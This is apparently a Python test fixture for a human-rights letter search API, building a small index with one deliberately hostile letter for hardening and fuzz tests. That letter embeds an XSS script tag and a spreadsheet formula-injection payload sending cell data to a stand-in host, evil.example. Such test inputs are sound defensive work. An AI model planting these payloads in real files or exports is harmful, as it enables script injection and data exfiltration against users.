"""A small real index and the real app over it, for the API hardening and fuzz tests."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from fastapi import FastAPI

from hrsearch.settings import Settings
from indexer.pipeline import run_index
from search_api.app import create_app
from search_api.security import install_security
from tests.doubles import HashingEmbedder
from tests.reliability.corpus import make_corpus
from tests.reliability.helpers import settings_for

SCRIPT = "<script>alert('pwned')</script>"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
HOSTILE_LETTER = (
    "Dear Special Rapporteur,\n\n"
    f"{FORMULA} We urge the Government to release the detained journalists.\n\n"
    f"The ministry replied {SCRIPT} and refused access to the detention centre.\n\n"
    "@SUM(1+1) We call on the authorities to end incommunicado detention.\n"
)


def build_index(folder: Path, name: str) -> Settings:
    """Six generated letters and one hostile letter, indexed with the HashingEmbedder."""
    docs = make_corpus(folder / "docs", letters=6, paragraphs=6)
    (docs / "hostile-letter.txt").write_text(HOSTILE_LETTER, encoding="utf-8")
    settings = settings_for(folder / "index", name)
    report = run_index([docs], settings, lambda: HashingEmbedder())
    assert not report.files_failed, report.files_failed
    return settings


def make_app(settings: Settings, **security: Any) -> FastAPI:
    """The real app with the security settings given (``model_copy``: they need not exist yet)."""
    configured = settings.model_copy(update=security)
    app = create_app(configured, embedder=HashingEmbedder())
    install_security(app, configured)
    return app
